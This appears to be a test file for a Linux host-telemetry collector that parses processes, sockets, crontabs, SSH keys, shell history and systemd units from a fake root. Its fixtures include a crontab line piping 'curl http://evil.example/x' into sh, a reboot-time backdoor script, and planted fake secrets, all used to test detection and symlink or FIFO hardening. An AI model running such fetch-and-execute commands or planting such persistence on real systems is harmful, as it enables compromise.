import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { test, type Test } from "tap";
import { collectLinux, LINUX_TABLES, type Row } from "../../services/agent/telemetry/linux.js";
import { CMDLINE_CAP } from "../../services/agent/telemetry/proc.js";
import { buildTree, EVIL_BINARY } from "./fixture-tree.js";

const root = buildTree();
process.once("exit", () => fs.rmSync(root, { recursive: true, force: true }));

/** Expected rows as the collector emits them: every number as its decimal string. */
const S = <T,>(value: T): T => JSON.parse(JSON.stringify(value, (_k, v: unknown) => (typeof v === "number" ? String(v) : v))) as T;

const byKey = (rows: Row[] | undefined, key: string): Map<string, Row> => new Map((rows ?? []).map((r) => [r[key] ?? "", r]));

// ---- fake-tree tables ------------------------------------------------------------------------

test("processes: parses stat, status, cmdline and links of each pid", async (t) => {
  const { processes } = await collectLinux(["processes"], { root });
  t.same(processes?.map((p) => p.pid), ["123", "456"], "exited pid 789 and non-numeric entries are skipped");
  const evil = byKey(processes, "pid").get("123");
  t.match(evil, S({
    pid: 123,
    name: "evil",
    path: "/usr/bin/evil",
    cmdline: "/usr/bin/evil --listen 4444",
    uid: 1000,
    gid: 1000,
    euid: 0,
    egid: 1000,
    parent: 1,
    pgroup: 123,
    state: "S",
    on_disk: 1,
    start_time: 1700000042, // btime + 4200 ticks / 100
    disk_bytes_read: 4096,
    disk_bytes_written: 4096,
    cgroup_path: "/system.slice/evil.service",
    user_time: 2500,
    system_time: 750,
    threads: 3,
    nice: 0,
    cwd: "/tmp",
    root: "",
    resident_size: 2000 * 1024,
    total_size: 10000 * 1024,
  }));
  const dropper = byKey(processes, "pid").get("456");
  t.match(dropper, S({ name: "dropper", path: "/tmp/dropper", on_disk: 0, parent: 123, start_time: 1700000001, cmdline: "", cwd: "", resident_size: "", disk_bytes_read: "" }));
});

test("process_envs: one row per variable, split at the first '='; values detections do not read are withheld", async (t) => {
  const { process_envs } = await collectLinux(["process_envs"], { root });
  t.same(process_envs, S([
    { pid: 123, key: "PATH", value: "/usr/bin" },
    { pid: 123, key: "LD_PRELOAD", value: "/tmp/x.so" },
    { pid: 123, key: "EMPTY", value: "" },
    { pid: 123, key: "EQ", value: "<withheld>" },
    { pid: 123, key: "AWS_SECRET_ACCESS_KEY", value: "<withheld>" },
  ]));
});

test("hash: sha256 of running executables that exist", async (t) => {
  const { hash } = await collectLinux(["hash"], { root });
  t.equal(hash?.length, 1, "the deleted dropper cannot be reached and is skipped");
  t.match(hash?.[0], S({
    path: "/usr/bin/evil",
    directory: "/usr/bin",
    sha256: createHash("sha256").update(EVIL_BINARY).digest("hex"),
    md5: createHash("md5").update(EVIL_BINARY).digest("hex"),
  }));
});

test("listening_ports: inet sockets without a peer, packet sockets and named unix sockets, as osquery derives them", async (t) => {
  const { listening_ports } = await collectLinux(["listening_ports"], { root });
  t.same(
    listening_ports?.map((r) => [r.pid, r.fd, r.port, r.protocol, r.family, r.address, r.socket]),
    S([
      [123, 4, 22, 6, 2, "0.0.0.0", 11111],
      [-1, -1, 8080, 6, 10, "::1", 33333],
      [-1, -1, 53, 17, 2, "0.0.0.0", 44444],
      [123, 6, 0, 3, 17, "", 66666], // AF_PACKET, ETH_P_ALL
      [-1, -1, 0, 0, 1, "", 0], // unix socket with a path; the pathless one is skipped
    ]),
  );
});

test("process_open_sockets: addresses, ports, state and owner", async (t) => {
  const { process_open_sockets } = await collectLinux(["process_open_sockets"], { root });
  t.equal(process_open_sockets?.length, 7, "4 inet, 1 packet, 2 unix");
  const established = byKey(process_open_sockets, "socket").get("22222");
  t.match(established, S({
    pid: 123,
    fd: 3,
    family: 2,
    protocol: 6,
    local_address: "127.0.0.1",
    local_port: 4444,
    remote_address: "127.0.0.1",
    remote_port: 54321,
    state: "ESTABLISHED",
  }));
  t.match(byKey(process_open_sockets, "socket").get("11111"), S({ state: "LISTEN", local_port: 22, remote_address: "0.0.0.0" }));
  t.match(byKey(process_open_sockets, "socket").get("44444"), S({ protocol: 17, state: "", pid: -1 }));
  t.same(byKey(process_open_sockets, "socket").get("66666"), S({
    pid: 123, fd: 6, socket: 66666, family: 17, protocol: 3, local_address: "", remote_address: "",
    local_port: 0, remote_port: 0, path: "", state: "NONE", net_namespace: 0,
  }));
  t.match(byKey(process_open_sockets, "socket").get("77777"), S({ family: 1, path: "/run/evil.sock", pid: -1, state: "" }));
});

test("users: every well-formed /etc/passwd line", async (t) => {
  const { users } = await collectLinux(["users"], { root });
  t.equal(users?.length, 4, "malformed and blank lines are skipped");
  t.same(byKey(users, "username").get("u"), S({
    uid: 1000,
    gid: 1000,
    uid_signed: 1000,
    gid_signed: 1000,
    username: "u",
    description: "User U,,,",
    directory: "/home/u",
    shell: "/bin/zsh",
    uuid: "",
  }));
  t.match(byKey(users, "username").get("nobody"), S({ uid: 65534, directory: "/nonexistent", shell: "/usr/sbin/nologin" }));
});

test("crontab: system, cron.d and user spool crontabs", async (t) => {
  const { crontab } = await collectLinux(["crontab"], { root });
  t.same(crontab, S([
    {
      event: "",
      minute: "17",
      hour: "*",
      day_of_month: "*",
      month: "*",
      day_of_week: "*",
      command: "root cd / && run-parts --report /etc/cron.hourly",
      path: "/etc/crontab",
    },
    { event: "@reboot", minute: "", hour: "", day_of_month: "", month: "", day_of_week: "", command: "root /opt/backdoor.sh", path: "/etc/crontab" },
    {
      event: "",
      minute: "*/5",
      hour: "*",
      day_of_month: "*",
      month: "*",
      day_of_week: "*",
      command: "root curl -s http://evil.example/x | sh",
      path: "/etc/cron.d/x",
    },
    {
      event: "",
      minute: "0",
      hour: "3",
      day_of_month: "*",
      month: "*",
      day_of_week: "1",
      command: "/home/u/bin/job --flag",
      path: "/var/spool/cron/crontabs/u",
    },
  ]));
});

test("authorized_keys: algorithm, key, options and comment per key file", async (t) => {
  const { authorized_keys } = await collectLinux(["authorized_keys"], { root });
  t.same(authorized_keys, S([
    {
      uid: 1000,
      options: "",
      algorithm: "ssh-ed25519",
      key: "AAAAC3NzaC1lZDI1NTE5AAAAIOtest",
      comment: "u@laptop",
      key_file: "/home/u/.ssh/authorized_keys",
    },
    {
      uid: 1000,
      options: 'command="echo hi there",no-pty',
      algorithm: "ssh-rsa",
      key: "AAAAB3NzaC1yc2Etest",
      comment: "deploy key",
      key_file: "/home/u/.ssh/authorized_keys",
    },
    {
      uid: 1000,
      options: "",
      algorithm: "ecdsa-sha2-nistp256",
      key: "AAAAE2VjZHNhtest",
      comment: "",
      key_file: "/home/u/.ssh/authorized_keys2",
    },
  ]));
});

test("shell_history: bash (with timestamps) and zsh extended history", async (t) => {
  const { shell_history } = await collectLinux(["shell_history"], { root });
  t.same(shell_history, S([
    { uid: 1000, time: 1700000000, command: "ls -la", history_file: "/home/u/.bash_history" },
    { uid: 1000, time: 0, command: "whoami", history_file: "/home/u/.bash_history" },
    { uid: 1000, time: 1700000100, command: "curl http://evil.example", history_file: "/home/u/.zsh_history" },
  ]));
});

test("kernel_modules: /proc/modules columns", async (t) => {
  const { kernel_modules } = await collectLinux(["kernel_modules"], { root });
  t.same(kernel_modules, S([
    { name: "nf_tables", size: 245760, used_by: "nft_chain_nat,nft_compat,", status: "Live", address: "0xffffffffc0a00000" },
    { name: "diamorphine", size: 16384, used_by: "-", status: "Live", address: "0x0000000000000000" },
  ]));
});

test("etc_hosts: comments stripped, hostnames space-joined", async (t) => {
  const { etc_hosts } = await collectLinux(["etc_hosts"], { root });
  t.same(etc_hosts, S([
    { address: "127.0.0.1", hostnames: "localhost" },
    { address: "10.0.0.5", hostnames: "evil.example evil" },
    { address: "::1", hostnames: "ip6-localhost ip6-loopback" },
  ]));
});

test("sudoers: rules, defaults, includedir followed, continuations joined", async (t) => {
  const { sudoers } = await collectLinux(["sudoers"], { root });
  t.same(sudoers, S([
    { source: "/etc/sudoers", header: "Defaults", rule_details: "env_reset" },
    { source: "/etc/sudoers", header: "root", rule_details: "ALL=(ALL:ALL) ALL" },
    { source: "/etc/sudoers", header: "%sudo", rule_details: "ALL=(ALL:ALL) ALL" },
    { source: "/etc/sudoers", header: "#includedir", rule_details: "/etc/sudoers.d" },
    { source: "/etc/sudoers.d/u", header: "u", rule_details: "ALL=(ALL) NOPASSWD: /usr/bin/apt" },
  ]));
});

test("suid_bin: setuid/setgid files up to two levels, symlinks not followed", async (t) => {
  const { suid_bin } = await collectLinux(["suid_bin"], { root });
  // The fake files belong to whoever runs the test; names come from the fake passwd/group.
  const uid = process.getuid?.() ?? 0;
  const gid = process.getgid?.() ?? 0;
  const username = uid === 0 ? "root" : uid === 1000 ? "u" : String(uid);
  const groupname = gid === 0 ? "root" : gid === 1000 ? "u" : String(gid);
  t.same(suid_bin, S([
    { path: "/usr/bin/evil", username, groupname, permissions: "S" },
    { path: "/usr/sbin/sub/wall", username, groupname, permissions: "G" },
  ]));
});

test("systemd_units: osquery columns from unit files on disk; /etc overrides /lib; masked units", async (t) => {
  const { systemd_units } = await collectLinux(["systemd_units"], { root });
  const units = byKey(systemd_units, "id");
  t.same([...units.keys()].sort(), ["evil.service", "masked.service", "multi.service", "ssh.service"]);
  t.same(units.get("evil.service"), {
    id: "evil.service",
    description: "Totally legit",
    load_state: "loaded",
    active_state: "",
    sub_state: "",
    unit_file_state: "disabled",
    following: "",
    object_path: "/org/freedesktop/systemd1/unit/evil_2eservice",
    job_id: "0",
    job_type: "",
    job_path: "/",
    fragment_path: "/etc/systemd/system/evil.service",
    user: "u",
    source_path: "",
  });
  t.match(units.get("masked.service"), { load_state: "masked", unit_file_state: "masked", fragment_path: "" });
  t.match(units.get("multi.service"), { unit_file_state: "enabled", description: "Two starts" });
  t.match(units.get("ssh.service"), { description: "Override", fragment_path: "/etc/systemd/system/ssh.service", unit_file_state: "static" });
  for (const row of systemd_units ?? []) t.notOk("exec_start" in row, "no invented exec_start column");
});

test("deb_packages: installed and config-files packages, purged ones skipped", async (t) => {
  const { deb_packages } = await collectLinux(["deb_packages"], { root });
  t.same(deb_packages, S([
    {
      name: "openssl",
      version: "1:3.0.11-1~deb12u2",
      source: "openssl",
      size: 2156,
      arch: "amd64",
      revision: "1~deb12u2",
      status: "install ok installed",
      maintainer: "Debian OpenSSL Team <pkg-openssl-devel@alioth-lists.debian.net>",
      section: "utils",
      priority: "optional",
      admindir: "/var/lib/dpkg",
    },
    {
      name: "oldpkg",
      version: "0.9",
      source: "",
      size: 0,
      arch: "all",
      revision: "",
      status: "deinstall ok config-files",
      maintainer: "",
      section: "",
      priority: "",
      admindir: "/var/lib/dpkg",
    },
  ]));
});

test("last and logged_in_users: binary utmp records", async (t) => {
  const { last, logged_in_users } = await collectLinux(["last", "logged_in_users"], { root });
  t.same(last, S([
    { username: "reboot", tty: "~", pid: 0, type: 2, type_name: "boot_time", time: 1700000000, host: "6.1.0-18-amd64" },
    { username: "u", tty: "pts/0", pid: 2222, type: 7, type_name: "user", time: 1700000500, host: "203.0.113.9" },
  ]));
  t.same(logged_in_users, S([{ type: "user", user: "root", tty: "pts/1", host: "198.51.100.7", time: 1700000600, pid: 3333 }]));
});

// ---- registry behaviour ------------------------------------------------------------------------

test("registry: unknown tables skipped, duplicates collapsed, every table listed", async (t) => {
  const result = await collectLinux(["users", "no_such_table", "users", "__proto__"], { root });
  t.same(Object.keys(result), ["users"]);
  t.equal(new Set(LINUX_TABLES).size, LINUX_TABLES.length);
  for (const name of ["processes", "listening_ports", "hash", "docker_containers", "last", "logged_in_users"]) {
    t.ok(LINUX_TABLES.includes(name), name);
  }
  const all = await collectLinux(LINUX_TABLES, { root });
  t.same(Object.keys(all).sort(), [...LINUX_TABLES].sort());
});

test("registry: maxRowsPerTable caps every table", async (t) => {
  const all = await collectLinux(LINUX_TABLES, { root, maxRowsPerTable: 1 });
  for (const [table, rows] of Object.entries(all)) t.ok(rows.length <= 1, `${table} has ${rows.length} rows`);
  t.equal(all.users?.length, 1);
  t.equal(all.process_envs?.length, 1);
  const none = await collectLinux(["users"], { root, maxRowsPerTable: 0 });
  t.same(none, { users: [] });
});

test("missing or unreadable sources yield empty tables, never a throw", async (t) => {
  const empty = await collectLinux(LINUX_TABLES, { root: path.join(root, "does-not-exist") });
  for (const [table, rows] of Object.entries(empty)) t.same(rows, [], table);

  // Files replaced by directories (EISDIR) and garbage content.
  const odd = fs.mkdtempSync(path.join(os.tmpdir(), "inquest-telemetry-odd-"));
  t.teardown(() => fs.rmSync(odd, { recursive: true, force: true }));
  for (const dir of ["etc/passwd", "etc/hosts", "proc/modules", "var/log/wtmp", "etc/sudoers"]) fs.mkdirSync(path.join(odd, dir), { recursive: true });
  fs.mkdirSync(path.join(odd, "proc/net"), { recursive: true });
  fs.writeFileSync(path.join(odd, "proc/net/tcp"), "header\n  0: zz:zz yy:yy 0A\n\0\0\0 garbage\n");
  fs.mkdirSync(path.join(odd, "proc/77"), { recursive: true });
  fs.writeFileSync(path.join(odd, "proc/77/stat"), "no parens here");
  const result = await collectLinux(LINUX_TABLES, { root: odd });
  t.same(result.users, []);
  t.same(result.etc_hosts, []);
  t.same(result.listening_ports, []);
  t.same(result.processes, [], "a malformed stat without status is dropped, as osquery does");
});

/** A fake root with one user, m, whose home (with its .ssh) a hostile test fills; removed after the test. */
function hostileRoot(t: Test, prefix: string): { root: string; at(rel: string): string } {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), prefix));
  t.teardown(() => fs.rmSync(root, { recursive: true, force: true }));
  const at = (rel: string) => path.join(root, rel);
  fs.mkdirSync(at("etc"), { recursive: true });
  fs.mkdirSync(at("home/m/.ssh"), { recursive: true });
  fs.writeFileSync(at("etc/passwd"), "m:x:1000:1000::/home/m:/bin/bash\n");
  return { root, at };
}

test("planted FIFOs and symlinked history files are not read", async (t) => {
  const { root: hostile, at } = hostileRoot(t, "inquest-telemetry-hostile-");
  fs.writeFileSync(at("etc/secret"), "root:$6$hash:19000:0:99999:7:::\n");
  fs.symlinkSync(at("etc/secret"), at("home/m/.bash_history"));
  let fifo = true;
  try {
    execFileSync("mkfifo", [at("home/m/.zsh_history"), at("home/m/.ssh/authorized_keys"), at("etc/hosts")]);
  } catch {
    fifo = false;
  }
  // Without O_NONBLOCK + fstat, open() on a FIFO with no writer would block forever.
  const result = await collectLinux(["shell_history", "authorized_keys", "etc_hosts", "users"], { root: hostile });
  t.same(result.shell_history, [], "symlinked history refused; FIFO history skipped");
  t.same(result.authorized_keys, []);
  t.same(result.etc_hosts, []);
  t.equal(result.users?.length, 1);
  if (!fifo) t.comment("mkfifo unavailable: FIFO half not exercised");
});

test("files in a home are read only when they are the user's own: no symlinked directory on the way, no hard link", async (t) => {
  const { root: hostile, at } = hostileRoot(t, "inquest-telemetry-home-");
  fs.mkdirSync(at("root/.ssh"), { recursive: true });
  fs.writeFileSync(at("root/.ssh/authorized_keys"), 'command="/usr/local/bin/backup --token=abc123" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRoot root@admin\n');
  fs.writeFileSync(at("root/.bash_history"), "mysql -u root -pHunter2 prod\n");
  fs.rmSync(at("home/m/.ssh"), { recursive: true });
  fs.symlinkSync(at("root/.ssh"), at("home/m/.ssh")); // ~m/.ssh -> /root/.ssh
  fs.linkSync(at("root/.bash_history"), at("home/m/.bash_history")); // a hard link to root's history
  const result = await collectLinux(["authorized_keys", "shell_history"], { root: hostile });
  t.same(result.authorized_keys, [], "root's keys are not reported as m's through a symlinked ~/.ssh");
  t.same(result.shell_history, [], "root's history is not read through a hard link in m's home");
  t.notMatch(JSON.stringify(result), /abc123|Hunter2/);
  // The user's own files still are.
  fs.rmSync(at("home/m/.ssh"));
  fs.mkdirSync(at("home/m/.ssh"));
  fs.writeFileSync(at("home/m/.ssh/authorized_keys"), "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM m@laptop\n");
  fs.rmSync(at("home/m/.bash_history"));
  fs.writeFileSync(at("home/m/.bash_history"), "ls\n");
  const own = await collectLinux(["authorized_keys", "shell_history"], { root: hostile });
  t.equal(own.authorized_keys?.length, 1);
  t.equal(own.shell_history?.[0]?.command, "ls");
});

test("a table that reaches the row cap is named (its rows may be partial)", async (t) => {
  const capped: string[] = [];
  const result = await collectLinux(["processes", "users"], { root, maxRowsPerTable: 1, onCapped: (table) => capped.push(table) });
  t.equal(result.processes?.length, 1);
  t.ok(capped.includes("processes"), `named: ${capped.join(", ")}`);
  const none: string[] = [];
  await collectLinux(["processes"], { root, onCapped: (table) => none.push(table) });
  t.same(none, [], "under the cap: nothing named");
});

test("a process's arguments are read up to 64 KiB, however long they are", async (t) => {
  const { root: hostile, at } = hostileRoot(t, "inquest-telemetry-argv-");
  fs.mkdirSync(at("proc/900"), { recursive: true });
  fs.writeFileSync(at("proc/900/stat"), "900 (bash) S 1 900 900 0 -1 0 0 0 0 0 1 1 0 0 20 0 1 0 100 0 0\n");
  fs.writeFileSync(at("proc/900/status"), "Name:\tbash\nUid:\t1000\t1000\t1000\t1000\nGid:\t1000\t1000\t1000\t1000\n");
  fs.writeFileSync(at("proc/900/cmdline"), `bash\0-c\0${"A".repeat(2 * 1024 * 1024)}\0`);
  const { processes } = await collectLinux(["processes"], { root: hostile });
  t.equal(processes?.length, 1);
  t.equal(processes?.[0]?.cmdline?.length, CMDLINE_CAP, "2 MiB of arguments: the first 64 KiB");
  t.match(processes?.[0]?.cmdline, /^bash -c A+$/);
});

test("a symlinked authorized_keys is not read: the agent reads as root, the link could point at any secret", async (t) => {
  const { root: hostile, at } = hostileRoot(t, "inquest-telemetry-keys-");
  fs.mkdirSync(at("root"), { recursive: true });
  fs.writeFileSync(at("root/.bash_history"), "mysql -u root -pHunter2 prod\nAWS_SECRET_ACCESS_KEY=abc123 aws s3 ls\n");
  fs.symlinkSync(at("root/.bash_history"), at("home/m/.ssh/authorized_keys"));
  fs.writeFileSync(at("home/m/.ssh/authorized_keys2"), "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3 m@laptop\n");
  const result = await collectLinux(["authorized_keys"], { root: hostile });
  t.same(result.authorized_keys?.map((r) => r.key_file), ["/home/m/.ssh/authorized_keys2"], "only the real file");
  t.notMatch(JSON.stringify(result.authorized_keys), /Hunter2|abc123/);
});

test("user unit files are read only when the user could read them: no link to a root file outside the unit directories", { skip: process.getuid?.() !== 0 && "needs root (files of another owner)" }, async (t) => {
  const { root: hostile, at } = hostileRoot(t, "inquest-telemetry-units-");
  const secret = "[Service]\nExecStart=/usr/bin/backup --token=abc123\n";
  fs.mkdirSync(at("root/secrets/x.service.d"), { recursive: true });
  fs.writeFileSync(at("root/secrets/shadow.service"), secret, { mode: 0o600 });
  fs.writeFileSync(at("root/secrets/x.service.d/token.conf"), secret, { mode: 0o600 });
  fs.mkdirSync(at("root/.config/systemd/user"), { recursive: true });
  fs.writeFileSync(at("root/.config/systemd/user/r.service"), secret, { mode: 0o600 });
  fs.mkdirSync(at("usr/lib/systemd/user"), { recursive: true });
  fs.writeFileSync(at("usr/lib/systemd/user/pkg.service"), "[Service]\nExecStart=/usr/bin/pkg\n");
  fs.mkdirSync(at("srv/m"), { recursive: true });
  fs.writeFileSync(at("srv/m/mine.service"), "[Service]\nExecStart=/srv/m/mine\n");
  fs.chownSync(at("srv/m/mine.service"), 1000, 1000);
  const units = at("home/m/.config/systemd/user");
  fs.mkdirSync(units, { recursive: true });
  fs.symlinkSync(at("root/secrets/shadow.service"), path.join(units, "leak.service")); // a link to a root-only file
  fs.symlinkSync(at("root/secrets/x.service.d"), path.join(units, "x.service.d")); // a drop-in directory linked out
  fs.linkSync(at("root/secrets/shadow.service"), path.join(units, "hard.service")); // a hard link to it
  fs.symlinkSync(at("usr/lib/systemd/user/pkg.service"), path.join(units, "alias.service")); // an alias of a packaged unit
  fs.symlinkSync(at("srv/m/mine.service"), path.join(units, "linked.service")); // systemctl --user link of the user's own file
  fs.writeFileSync(path.join(units, "own.service"), "[Service]\nExecStart=/home/m/bin/own\n");
  fs.mkdirSync(at("home/v/.config/systemd"), { recursive: true });
  fs.symlinkSync(at("root/.config/systemd/user"), at("home/v/.config/systemd/user")); // a whole unit directory linked to root's
  fs.writeFileSync(at("etc/passwd"), "v:x:1001:1001::/home/v:/bin/bash\nm:x:1000:1000::/home/m:/bin/bash\nroot:x:0:0::/root:/bin/bash\n");
  const { augeas } = await collectLinux(["augeas"], { root: hostile });
  const commands = (augeas ?? []).filter((r) => r.label === "command").map((r) => [r.path, r.value]);
  t.same(commands, [
    ["/home/m/.config/systemd/user/alias.service", "/usr/bin/pkg"],
    ["/home/m/.config/systemd/user/linked.service", "/srv/m/mine"],
    ["/home/m/.config/systemd/user/own.service", "/home/m/bin/own"],
    ["/root/.config/systemd/user/r.service", "/usr/bin/backup"],
  ], "m's own units, the alias of a packaged one, and root's units as root's only");
  t.notMatch(JSON.stringify((augeas ?? []).filter((r) => !r.path?.startsWith("/root/"))), /abc123/, "no root-only file is reported as m's or v's");
});

// ---- the real machine --------------------------------------------------------------------------

test("real root: processes include this test process; sockets parse", { skip: process.platform !== "linux" }, async (t) => {
  const result = await collectLinux(["processes", "listening_ports", "process_open_sockets"]);
  const self = result.processes?.find((p) => p.pid === String(process.pid));
  t.ok(self, "own pid present");
  t.match(String(self?.cmdline), /node/);
  t.equal(self?.parent, String(process.ppid));
  t.equal(self?.uid, String(process.getuid?.()));
  t.equal(self?.cwd, process.cwd());
  t.equal(self?.on_disk, "1");
  t.ok(Math.abs(Number(self?.start_time) - Date.now() / 1000) < 3600, "start_time is an absolute epoch");
  t.ok(Array.isArray(result.listening_ports));
  for (const row of result.listening_ports ?? []) {
    const port = Number(row.port);
    t.ok(Number.isInteger(port) && port >= 0 && port < 65536, `port ${row.port}`);
    t.ok(["1", "2", "10", "17"].includes(row.family ?? ""), `family ${row.family}`);
  }
});
